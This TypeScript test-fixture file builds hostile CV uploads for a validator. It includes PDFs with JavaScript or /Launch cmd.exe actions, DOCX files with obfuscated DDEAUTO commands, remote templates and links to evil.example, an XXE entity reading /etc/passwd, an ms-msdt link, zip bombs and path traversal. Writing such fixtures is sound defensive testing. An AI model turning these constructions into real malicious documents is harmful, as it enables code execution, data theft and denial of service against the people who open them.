import { deflateSync } from 'node:zlib';
import { zipOf } from '#app/platform/zip.server.ts';
import type { CvRefusal } from './cv-rules.ts';

const at = new Date(Date.UTC(2026, 10, 23));

/** A PDF with these lines on one page, with whatever is added to its catalogue. */
export function textPdf(
  lines: readonly string[],
  more: { readonly catalogue?: string; readonly objects?: readonly string[]; readonly trailer?: string } = {},
): Buffer {
  const stream = `BT /F1 11 Tf 50 780 Td 14 TL ${lines.map((line) => `(${line.replace(/[\\()]/g, '\\$&')}) Tj T*`).join(' ')} ET`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${more.catalogue ?? ''} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...(more.objects ?? []),
  ];
  let text = '%PDF-1.4\n';
  const places: number[] = [];
  for (const [index, object] of objects.entries()) {
    places.push(text.length);
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
  }
  const start = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${more.trailer ?? ''} >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

const types =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>';
const body = (lines: readonly string[]) =>
  `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${lines
    .map((line) => `<w:p><w:r><w:t xml:space="preserve">${line.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</w:t></w:r></w:p>`)
    .join('')}</w:body></w:document>`;

/** A DOCX with these lines, and whatever parts are added or put in place of its own. */
export function textDocx(lines: readonly string[], more: Readonly<Record<string, string | Buffer>> = {}): Buffer {
  const parts: Record<string, string | Buffer> = { '[Content_Types].xml': types, 'word/document.xml': body(lines), ...more };
  return zipOf(
    Object.entries(parts).map(([name, content]) => ({ name, content: Buffer.from(content) })),
    at,
  );
}

export interface HostileCv {
  readonly name: string;
  readonly content: Buffer;
  /** Refused for this; or taken, and then reading it ends in words or in nothing, never in harm. */
  readonly becomes: CvRefusal | 'taken';
}

const relationship = (type: string, target: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const lines = ['Maria Santos', 'Experience', 'Ticketing'];
const deep = '<w:p>'.repeat(20_000);

function locked(): Buffer {
  const file = textDocx(lines);
  const directory = file.indexOf(Buffer.from('504b0102', 'hex'));
  file.writeUInt16LE(1, directory + 8);
  return file;
}
function lying(): Buffer {
  const file = textDocx(lines);
  file.writeUInt16LE(60_000, file.lastIndexOf(Buffer.from('504b0506', 'hex')) + 10);
  return file;
}
/** Told apart from what the directory says by whoever reads the archive from its front. */
function twoNames(): Buffer {
  const file = textDocx(lines, { 'word/theme.xml': '<a/>' });
  file.write('word/evil_.xml', file.indexOf('word/theme.xml'), 'latin1');
  return file;
}
/** Behind the end that is found first, another one that is found last. */
function twoEnds(): Buffer {
  const file = textDocx(lines);
  return Buffer.concat([file, Buffer.from('another archive')]);
}
function packedAnotherWay(): Buffer {
  const file = textDocx(lines);
  file.writeUInt16LE(12, file.indexOf(Buffer.from('504b0102', 'hex')) + 10);
  return file;
}
const part = (inside: string) => `<?xml version="1.0"?><w:document><w:body>${inside}</w:body></w:document>`;
const relations = (inside: string) => `<?xml version="1.0"?><Relationships>${inside}</Relationships>`;
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
/** Made when it is asked for: who only wants a plain CV of this file would pack it too. */
const bomb = () => deflateSync(Buffer.alloc(200 * 1024 * 1024), { level: 9 });
const stream = (dictionary: string, content: Buffer) =>
  `<< ${dictionary} /Length ${content.length} >>\nstream\n${content.toString('latin1')}\nendstream`;

/** CVs that mean harm, each another trick. */
export function hostileCvs(): HostileCv[] {
  return [
    { name: 'nothing at all', content: Buffer.alloc(0), becomes: 'empty' },
    { name: 'a program called a CV', content: Buffer.from('MZ\x90\x00this program'), becomes: 'other-type' },
    { name: 'a web page', content: Buffer.from('<!doctype html><script>alert(1)</script>'), becomes: 'other-type' },
    { name: 'four megabytes', content: Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(4 * 1024 * 1024)]), becomes: 'too-large' },
    { name: 'a PDF that ends early', content: textPdf(lines).subarray(0, 300), becomes: 'damaged' },
    {
      name: 'a PDF that opens with a script',
      content: textPdf(lines, { catalogue: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }),
      becomes: 'active-content',
    },
    {
      name: 'a PDF with a script under another spelling',
      content: textPdf(lines, { catalogue: '/Names << /J#61vaScript 6 0 R >>' }),
      becomes: 'active-content',
    },
    {
      name: 'a PDF that starts a program',
      content: textPdf(lines, { catalogue: '/AA << /O << /S /Launch /F (cmd.exe) >> >>' }),
      becomes: 'active-content',
    },
    {
      name: 'a PDF with a file inside',
      content: textPdf(lines, { catalogue: '/Names << /EmbeddedFiles 6 0 R >>' }),
      becomes: 'active-content',
    },
    { name: 'a PDF that is locked', content: textPdf(lines, { trailer: '/Encrypt 6 0 R' }), becomes: 'locked' },
    { name: 'a PDF that swells', content: textPdf(lines, { objects: [stream('/Filter /FlateDecode', bomb())] }), becomes: 'damaged' },
    {
      name: 'a PDF packed twice',
      content: textPdf(lines, { objects: [stream('/Filter [/FlateDecode /FlateDecode]', Buffer.from('x'))] }),
      becomes: 'active-content',
    },
    {
      name: 'a PDF that is also an archive',
      content: Buffer.concat([textPdf(lines).subarray(0, -6), textDocx(lines), Buffer.from('\n%%EOF')]),
      becomes: 'active-content',
    },
    {
      name: 'a PDF whose pages lead to themselves',
      content: Buffer.from(textPdf(lines).toString('latin1').replace('/Kids [3 0 R]', '/Kids [2 0 R]'), 'latin1'),
      becomes: 'taken',
    },
    {
      name: 'a PDF that says it has a million pages',
      content: Buffer.from(textPdf(lines).toString('latin1').replace('/Count 1', '/Count 1000000'), 'latin1'),
      becomes: 'taken',
    },
    {
      name: 'an archive that is no document',
      content: zipOf([{ name: 'readme.txt', content: Buffer.from('hello') }], at),
      becomes: 'other-type',
    },
    { name: 'an archive cut in half', content: textDocx(lines).subarray(0, 120), becomes: 'damaged' },
    { name: 'a document with macros', content: textDocx(lines, { 'word/vbaProject.bin': 'macro' }), becomes: 'active-content' },
    {
      name: 'a document with an object inside',
      content: textDocx(lines, { 'word/embeddings/oleObject1.bin': 'object' }),
      becomes: 'active-content',
    },
    {
      name: 'a document with a template from elsewhere',
      content: textDocx(lines, { 'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'http://evil.example/t.dotm') }),
      becomes: 'active-content',
    },
    {
      name: 'a document with a picture from elsewhere',
      content: textDocx(lines, { 'word/_rels/document.xml.rels': relationship('image', 'file://evil.example/share/p.png') }),
      becomes: 'active-content',
    },
    {
      name: 'a document that asks another program',
      content: textDocx(lines, { 'word/document.xml': `${body(lines)}<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>` }),
      becomes: 'active-content',
    },
    {
      name: 'a document with entities of its own',
      content: textDocx(lines, { 'word/document.xml': `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${body(lines)}` }),
      becomes: 'active-content',
    },
    {
      name: 'a document that swells',
      content: textDocx(lines, { 'word/media/a.xml': Buffer.alloc(30 * 1024 * 1024) }),
      becomes: 'damaged',
    },
    { name: 'a document that is locked', content: locked(), becomes: 'locked' },
    { name: 'a document that lies about its parts', content: lying(), becomes: 'damaged' },
    { name: 'a document with a way out of its folder', content: textDocx(lines, { '../../evil.xml': 'x' }), becomes: 'damaged' },
    { name: 'a document nested without end', content: textDocx(lines, { 'word/document.xml': `${deep}${body(lines)}` }), becomes: 'taken' },
    ...hiddenInDocuments(),
    {
      name: 'a document with a link that waits for a click',
      content: textDocx(lines, { 'word/_rels/document.xml.rels': relationship('hyperlink', 'https://example.com') }),
      becomes: 'taken',
    },
  ];
}

/** Tricks that only work when a document is read otherwise here than by the program that opens it. */
function hiddenInDocuments(): HostileCv[] {
  const code = (inside: string) => textDocx(lines, { 'word/document.xml': part(inside) });
  const link = (inside: string) => textDocx(lines, { 'word/_rels/document.xml.rels': relations(inside) });
  const active: Readonly<Record<string, Buffer>> = {
    'with a command in small letters': code('<w:instrText>ddeauto c:\\cmd.exe</w:instrText>'),
    'with a command in pieces': code('<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r>'),
    'with a command in pieces, behind another': code(
      '<w:instrText>PAGE</w:instrText><w:fldChar/><w:fldChar/><w:instrText>DD</w:instrText><w:instrText>E cmd</w:instrText>',
    ),
    'with a command around a remark': code('<w:instrText>DDE<!-- x -->AUTO cmd</w:instrText>'),
    'with a command spelled with numbers': code('<w:instrText>&#68;&#x44;EAUTO cmd</w:instrText>'),
    'with a command reckoned from numbers': code('<w:instrText>QUOTE 68 68 69 65</w:instrText>'),
    'with a command in an attribute': code('<w:fldSimple w:x="a > b" w:instr=" DDEAUTO cmd "/>'),
    'with a command under another prefix': code('<x:instrText>DDEAUTO cmd</x:instrText>'),
    'with a command set apart': code('<w:instrText><![CDATA[DDEAUTO cmd]]></w:instrText>'),
    'with a command in a part that is not called words': textDocx(lines, {
      'word/second.dat': part('<w:instrText>DDEAUTO cmd</w:instrText>'),
    }),
    'with a picture that a command fetches': code('<w:instrText> INCLUDEPICTURE "https://evil.example/p.png" </w:instrText>'),
    'with words from elsewhere': code('<w:instrText>INCLUDETEXT "https://evil.example/a.docx"</w:instrText>'),
    'that takes a web page for its words': link(`<Relationship Id="r1" Type="${office}/aFChunk" Target="a.dat"/>`),
    'that takes another document for its words': link(`<Relationship Id="r1" Type="${office}/subDocument" Target="a.docx"/>`),
    'with a template whose address looks like a link': link(
      `<Relationship Id="r1" Target='http://evil.example/?Type="a/hyperlink"' Type="${office}/attachedTemplate" TargetMode="External"/>`,
    ),
    'with a template whose address looks like one of its own': link(
      `<Relationship Id="r1" Target='http://evil.example/?TargetMode="Internal"' Type="${office}/attachedTemplate" TargetMode="External"/>`,
    ),
    'with a template behind a wide equals sign': link(
      `<Relationship Id${' '.repeat(40)}=" Type='a/hyperlink' " Type="${office}/attachedTemplate" Target="http://evil.example" TargetMode="External"/>`,
    ),
    'with a frame spelled with numbers': link(
      `<Relationship Id="r1" Type="${office}/frame" Target="http://evil.example" TargetMode="&#69;xternal"/>`,
    ),
    'with a link that starts a program': link(
      `<Relationship Id="r1" Type="${office}/hyperlink" Target="ms-msdt:/id PCWDiagnostic" TargetMode="External"/>`,
    ),
    'with a link to a shared folder': link(
      `<Relationship Id="r1" Type="${office}/hyperlink" Target="\\\\evil.example\\share\\x" TargetMode="External"/>`,
    ),
    'with a web page inside': textDocx(lines, { 'word/page.html': '<script>alert(1)</script>' }),
    'that calls a part a web page': textDocx(lines, { '[Content_Types].xml': `${types}<Override ContentType="text/html"/>` }),
    'that names an entity within an entity': code('<!ENTITY a "&b;&b;&b;&b;">'),
  };
  const damaged: Readonly<Record<string, Buffer>> = {
    'in another alphabet of bytes': textDocx(lines, {
      'word/document.xml': Buffer.from(`\uFEFF${part('<w:instrText>DDEAUTO cmd</w:instrText>')}`, 'utf16le'),
    }),
    'that says it is in an old alphabet': textDocx(lines, { 'word/document.xml': '<?xml version="1.0" encoding="UTF-7"?><w:document/>' }),
    'whose part has two names': twoNames(),
    'with something behind its end': twoEnds(),
    'packed in a way that nobody uses': packedAnotherWay(),
    'of five hundred parts': textDocx(lines, Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`word/a${at}.xml`, '<a/>']))),
  };
  return [
    ...Object.entries(active).map(([name, content]): HostileCv => ({ name: `a document ${name}`, content, becomes: 'active-content' })),
    ...Object.entries(damaged).map(([name, content]): HostileCv => ({ name: `a document ${name}`, content, becomes: 'damaged' })),
    {
      name: 'a document whose words are called like a command',
      content: textDocx(['Maria Santos', 'LINK and QUOTE, DDE of 2004, INCLUDE']),
      becomes: 'taken',
    },
    {
      name: 'a table called a CV',
      content: zipOf(
        [
          { name: '[Content_Types].xml', content: Buffer.from(types) },
          { name: 'xl/workbook.xml', content: Buffer.from('<a/>') },
        ],
        at,
      ),
      becomes: 'other-type',
    },
    {
      name: 'a document without words',
      content: zipOf([{ name: '[Content_Types].xml', content: Buffer.from(types) }], at),
      becomes: 'other-type',
    },
  ];
}
